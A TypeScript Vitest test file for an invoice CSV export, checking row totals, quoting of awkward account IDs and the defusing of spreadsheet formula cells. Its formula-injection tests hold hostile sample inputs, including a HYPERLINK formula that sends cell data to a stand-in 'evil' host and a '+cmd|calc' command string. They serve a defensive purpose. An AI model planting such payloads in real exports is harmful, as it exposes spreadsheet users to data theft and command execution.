import { describe, expect, it } from 'vitest';
import { Dec } from '@tally/money';
import { buildInvoice } from './build-invoice.ts';
import { csvField, invoiceCsv } from './invoice-export.ts';
import { PriceBook } from './price-book.ts';
import { account, at, entry, perUnit, usage } from './test-fixtures.ts';

describe('invoiceCsv', () => {
  it('writes one row per line whose amounts add up to the invoice total', () => {
    const book = PriceBook.from([entry('compute.s1.small', 'USD', '2025-01-01T00:00:00Z', perUnit('1.005'))]);
    const content = buildInvoice({
      account: account({ accountId: 'acct,"1"', freeCredit: '1.00' }),
      month: '2025-03',
      prices: book,
      usage: [usage({ accountId: 'acct,"1"', hourStart: at('2025-03-05T00:00:00Z') })],
      creditAvailable: '1.00',
    });
    const csv = invoiceCsv([
      {
        accountId: 'acct,"1"',
        month: '2025-03',
        issuer: 't',
        number: 'INV-2025-000001',
        contentHash: 'h',
        finalizedAt: new Date(0),
        content,
      },
    ]);
    const rows = csv.trim().split('\n');
    expect(rows[0]).toBe(
      'invoice_number,account_id,month,currency,line,kind,sku,adjusts_month,quantity,unit,amount,invoice_total',
    );
    expect(rows.slice(1)).toEqual([
      'INV-2025-000001,"acct,""1""",2025-03,USD,1,usage,compute.s1.small,,1,hour,1.01,0.01',
      'INV-2025-000001,"acct,""1""",2025-03,USD,2,credit,,,,,-1.00,0.01',
    ]);
    const sum = rows.slice(1).reduce((s, r) => s.plus(r.split(',').at(-2)!), new Dec(0));
    expect(sum.toFixed(2)).toBe(content.total);
  });
});

describe('csvField', () => {
  it('defuses cells a spreadsheet would run as formulas', () => {
    expect(csvField('=HYPERLINK("http://evil/?"&A1,"x")')).toBe(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
    expect(csvField('+cmd|calc')).toBe("'+cmd|calc");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvField('\t=1')).toBe("'\t=1");
  });

  it('leaves numbers, signed ones included, and ordinary text as they are', () => {
    expect(csvField('-1.00')).toBe('-1.00');
    expect(csvField('+5')).toBe('+5');
    expect(csvField(12)).toBe('12');
    expect(csvField('acct-1')).toBe('acct-1');
    expect(csvField(null)).toBe('');
  });
});
